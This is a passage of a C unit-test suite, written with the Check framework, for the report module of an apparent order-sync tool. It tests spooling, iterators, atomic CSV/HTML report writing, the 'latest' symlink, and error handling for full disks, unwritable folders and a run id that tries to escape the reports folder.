		"CARRIER_NOT_INTEGRATED"), 0);
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1",
		"push:gid://shopify/Fulfillment/9", SYNC_FAILED, "OTHER"), 0);
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1", "pull:77",
					SYNC_SYNCED, NULL), 1);
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1", NULL,
					SYNC_SYNCED, NULL), 0);

	/* filters; two iterators open at once */
	ck_assert_int_eq(report_iter_open(&r, &outer, SYNC_FAILED, -1, NULL), 0);
	while ((it = report_iter_next(&outer)) != NULL) {
		ck_assert_int_eq(it->status, SYNC_FAILED);
		ck_assert_int_eq(report_iter_open(&r, &inner, -1, 1, NULL), 0);
		jt = report_iter_next(&inner);
		ck_assert_ptr_nonnull(jt);
		ck_assert_str_eq(jt->tt_order_id, "2");
		ck_assert_str_eq(jt->buyer, "");	/* NULL became "" */
		ck_assert_ptr_null(report_iter_next(&inner));
		report_iter_close(&inner);
		seen++;
	}
	ck_assert_int_eq(outer.failed, 0);
	report_iter_close(&outer);
	ck_assert_uint_eq(seen, 2);
	ck_assert_int_eq(report_iter_open(&r, &outer, -1, 0, "SKU_NOT_LINKED"), 0);
	ck_assert_ptr_null(report_iter_next(&outer));	/* only one, an alert */
	report_iter_close(&outer);

	/* groups: failures that are not alerts */
	ck_assert_int_eq(report_failure_groups(&r, &codes, &counts, &n), 0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(codes[0], "CARRIER_NOT_INTEGRATED");
	ck_assert_uint_eq(counts[0], 1);
	free(codes[0]);
	free(codes);
	free(counts);
	report_free(&r);
}
END_TEST

/* The spool cannot grow (a full disk): the items that did not fit are
 * lost, and report_write() says so while still writing the others. */
START_TEST(test_spool_full_fails_write)
{
	char *top = tmpdir();
	char *csv_path = xasprintf("%s/r1/items.csv", top);
	struct report r;
	struct report_item it = item("1", SYNC_FAILED, "SKU_NOT_LINKED");
	struct err e = { 0 };
	char big[8192], *csv;
	int i;

	report_init(&r, "r1", "Acme", "run", 0);
	report_add(&r, &it);
	/* no page beyond those in use */
	ck_assert_int_eq(sqlite3_exec(r.db, "PRAGMA max_page_count = 1", NULL,
				      NULL, NULL), SQLITE_OK);
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	it.detail = big;
	it.tt_order_id = "2";
	for (i = 0; i < 4; i++)
		report_add(&r, &it);
	ck_assert_uint_eq(r.nitems, 1);
	ck_assert_int_eq(r.spool_failed, 1);
	ck_assert_int_eq(report_write(top, &r, NULL, &e), -1);
	ck_assert_int_eq(e.cls, ERR_IO);
	ck_assert_str_eq(e.code, "REPORT_SPOOL");
	csv = slurp(csv_path);
	ck_assert_uint_eq(csv_lines(csv), 2);
	free(csv);
	report_free(&r);
	free(csv_path);
	rm_rf(top);
	free(top);
}
END_TEST

/* ---- report_write --------------------------------------------------------- */

static void fill(struct report *r, const char *run_id)
{
	struct report_item a = item("1", SYNC_SYNCED, NULL);
	struct report_item b = item("2", SYNC_FAILED, "SKU_NOT_LINKED");

	report_init(r, run_id, "Acme", "run", 0);
	report_add(r, &a);
	report_add(r, &b);
}

static void assert_run_folder(const char *dir)
{
	static const char *const files[] = {
		"synced.csv", "failed.csv", "items.csv", "report.html",
	};
	struct stat st;
	size_t i;

	ck_assert_int_eq(stat(dir, &st), 0);
	ck_assert(S_ISDIR(st.st_mode));
	ck_assert_int_eq(st.st_mode & 0777, 0755);	/* umask 022 */
	for (i = 0; i < ARRAY_SIZE(files); i++) {
		char *p = xasprintf("%s/%s", dir, files[i]);

		ck_assert_msg(is_file(p), "%s missing or empty", p);
		ck_assert_int_eq(stat(p, &st), 0);
		ck_assert_int_eq(st.st_mode & 0777, 0644);
		free(p);
	}
}

START_TEST(test_write_atomic_and_latest)
{
	char *top = tmpdir();
	char *reports = xasprintf("%s/var/reports", top);	/* parents missing */
	char *latest = xasprintf("%s/latest", reports);
	char *d1 = NULL, *d2 = NULL, *want, *csv;
	char target[PATH_MAX];
	struct report r1, r2;
	struct err e = { 0 };
	struct table t;
	ssize_t n;

	umask(022);	/* the modes asserted below are 0755 / 0644 less it */
	fill(&r1, "20261121T235301Z");
	fill(&r2, "20261122T005301Z");
	ck_assert_msg(report_write(reports, &r1, &d1, &e) == 0, "%s", e.msg);
	want = xasprintf("%s/20261121T235301Z", reports);
	ck_assert_str_eq(d1, want);
	free(want);
	assert_run_folder(d1);
	n = readlink(latest, target, sizeof(target) - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "20261121T235301Z");

	ck_assert_msg(report_write(reports, &r2, &d2, &e) == 0, "%s", e.msg);
	assert_run_folder(d2);
	n = readlink(latest, target, sizeof(target) - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "20261122T005301Z");
	/* The first run's folder is kept. */
	assert_run_folder(d1);
	/* No temporary file left anywhere (latest.tmp, .x.csv.tmp.*). */
	ck_assert_int_eq(nftw(reports, has_temp, 16, FTW_PHYS), 0);
	/* latest/failed.csv is the second run's. */
	want = xasprintf("%s/failed.csv", latest);
	csv = slurp(want);
	parse_csv(csv, &t);
	ck_assert_uint_eq(t.nrows, 2);
	ck_assert_str_eq(cellat(&t, 1, C_RUN), "20261122T005301Z");
	ck_assert_str_eq(cellat(&t, 1, C_TT), "2");
	table_free(&t);
	free(csv);
	free(want);

	/* Writing the same run again replaces its files in place. */
	ck_assert_msg(report_write(reports, &r2, NULL, &e) == 0, "%s", e.msg);
	ck_assert_int_eq(nftw(reports, has_temp, 16, FTW_PHYS), 0);

	report_free(&r1);
	report_free(&r2);
	free(d1);
	free(d2);
	free(latest);
	free(reports);
	rm_rf(top);
	free(top);
}
END_TEST

START_TEST(test_write_stale_latest_tmp_replaced)
{
	char *top = tmpdir();
	char *tmpl = xasprintf("%s/latest.tmp", top);
	char target[PATH_MAX];
	char *latest = xasprintf("%s/latest", top);
	struct report r;
	struct err e = { 0 };
	ssize_t n;

	/* A run that died between symlink and rename left this behind. */
	ck_assert_int_eq(symlink("old-run", tmpl), 0);
	fill(&r, "new-run");
	ck_assert_msg(report_write(top, &r, NULL, &e) == 0, "%s", e.msg);
	n = readlink(latest, target, sizeof(target) - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "new-run");
	ck_assert_int_eq(access(tmpl, F_OK), -1);
	report_free(&r);
	free(tmpl);
	free(latest);
	rm_rf(top);
	free(top);
}
END_TEST

START_TEST(test_write_reports_dir_is_a_file)
{
	char *top = tmpdir();
	char *file = xasprintf("%s/reports", top);
	char *under = xasprintf("%s/reports/sub", top);
	char *d = (char *)"unchanged";
	struct report r;
	struct err e = { 0 };
	FILE *f;

	f = fopen(file, "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(fclose(f), 0);
	fill(&r, "r1");
	ck_assert_int_eq(report_write(file, &r, &d, &e), -1);
	ck_assert_ptr_null(d);
	ck_assert_int_eq(e.cls, ERR_IO);
	ck_assert_msg(strstr(e.msg, file) != NULL, "message lacks the path: %s",
		      e.msg);
	err_clear(&e);
	/* A folder below a file: same, and the message names it. */
	ck_assert_int_eq(report_write(under, &r, NULL, &e), -1);
	ck_assert_msg(strstr(e.msg, under) != NULL, "message lacks the path: %s",
		      e.msg);
	report_free(&r);
	free(file);
	free(under);
	rm_rf(top);
	free(top);
}
END_TEST

START_TEST(test_write_bad_run_id)
{
	char *top = tmpdir();
	char *outside = xasprintf("%s/x", top);
	struct report r;
	struct err e = { 0 };
	char *reports = xasprintf("%s/reports", top);

	fill(&r, "../x");
	ck_assert_int_eq(report_write(reports, &r, NULL, &e), -1);
	ck_assert_int_eq(access(outside, F_OK), -1);
	report_free(&r);
	fill(&r, "latest");
	ck_assert_int_eq(report_write(reports, &r, NULL, &e), -1);
	report_free(&r);
	free(outside);
	free(reports);
	rm_rf(top);
	free(top);
}
END_TEST

START_TEST(test_write_one_writer_fails_others_written)
{
	char *top = tmpdir();
	char *run = xasprintf("%s/r1", top);
	char *blocker = xasprintf("%s/r1/failed.csv", top);
	char *inside = xasprintf("%s/r1/failed.csv/keep", top);
	char *p, *d = NULL;
	char target[PATH_MAX];
	struct report r;
	struct err e = { 0 };
	struct stat st;
	ssize_t n;
	FILE *f;

	/* A non-empty folder where failed.csv should go: rename(2) fails. */
	ck_assert_int_eq(mkdir(run, 0755), 0);
	ck_assert_int_eq(mkdir(blocker, 0755), 0);
	f = fopen(inside, "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(fclose(f), 0);

	fill(&r, "r1");
	ck_assert_int_eq(report_write(top, &r, &d, &e), -1);
	ck_assert_msg(strstr(e.msg, "failed.csv") != NULL,
		      "message does not name the file: %s", e.msg);
	ck_assert_int_eq(e.cls, ERR_IO);
	/* The other writers still produced their files. */
	p = xasprintf("%s/synced.csv", run);
	ck_assert(is_file(p));
	free(p);
	p = xasprintf("%s/items.csv", run);
	ck_assert(is_file(p));
	free(p);
	p = xasprintf("%s/report.html", run);
	ck_assert(is_file(p));
	free(p);
	ck_assert_int_eq(stat(blocker, &st), 0);
	ck_assert(S_ISDIR(st.st_mode));
	/* latest still points at the run, and no temp file is left. */
	p = xasprintf("%s/latest", top);
	n = readlink(p, target, sizeof(target) - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "r1");
	free(p);
	ck_assert_int_eq(nftw(top, has_temp, 16, FTW_PHYS), 0);
	ck_assert_str_eq(d, run);
	free(d);
	report_free(&r);
	free(run);
	free(blocker);
	free(inside);
	rm_rf(top);
	free(top);
}
END_TEST

START_TEST(test_write_unwritable_run_folder)
{
	char *top = tmpdir();
	char *run = xasprintf("%s/r1", top);
	struct report r;
	struct err e = { 0 };

	if (geteuid() == 0) {
		/* root writes through mode bits: make the folder a dangling
		 * symlink instead, which is no directory for anyone. */
		ck_assert_int_eq(symlink("/nonexistent/ttsync", run), 0);
	} else {
		ck_assert_int_eq(mkdir(run, 0555), 0);
	}
	fill(&r, "r1");
	ck_assert_int_eq(report_write(top, &r, NULL, &e), -1);
	ck_assert_msg(strstr(e.msg, run) != NULL, "message lacks %s: %s", run,
		      e.msg);
	ck_assert_int_eq(nftw(top, has_temp, 16, FTW_PHYS), 0);
	report_free(&r);
	free(run);
	rm_rf(top);
	free(top);
}
END_TEST

static Suite *report_suite(void)
{
	Suite *s = suite_create("report");
	TCase *csv = tcase_create("csv");
	TCase *html = tcase_create("html");
	TCase *files = tcase_create("files");
	TCase *spool = tcase_create("spool");

	tcase_add_test(csv, test_csv_columns_and_header);
	tcase_add_test(csv, test_csv_status_names_and_person);
	tcase_add_test(csv, test_csv_rfc4180_round_trip);
	tcase_add_test(csv, test_csv_formula_injection);
	tcase_add_test(csv, test_csv_files_by_status);
	tcase_add_test(csv, test_writers_report_write_errors);
	tcase_add_test(html, test_html_no_injection);
	tcase_add_test(html, test_html_groups_by_reason_remedy_once);
	tcase_add_test(html, test_html_differing_remedies_each_shown);
	tcase_add_test(html, test_html_alerts_first);
	tcase_add_test(html, test_html_summary_counts_and_carried);
	tcase_add_test(files, test_write_atomic_and_latest);
	tcase_add_test(files, test_write_stale_latest_tmp_replaced);
	tcase_add_test(files, test_write_reports_dir_is_a_file);
	tcase_add_test(files, test_write_bad_run_id);
	tcase_add_test(files, test_write_one_writer_fails_others_written);
	tcase_add_test(files, test_write_unwritable_run_folder);
	tcase_add_test(spool, test_many_rows_spooled);
	tcase_add_test(spool, test_has_key_and_iterators);
	tcase_add_test(spool, test_spool_full_fails_write);
	suite_add_tcase(s, csv);
	suite_add_tcase(s, html);
	suite_add_tcase(s, files);
	suite_add_tcase(s, spool);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(report_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
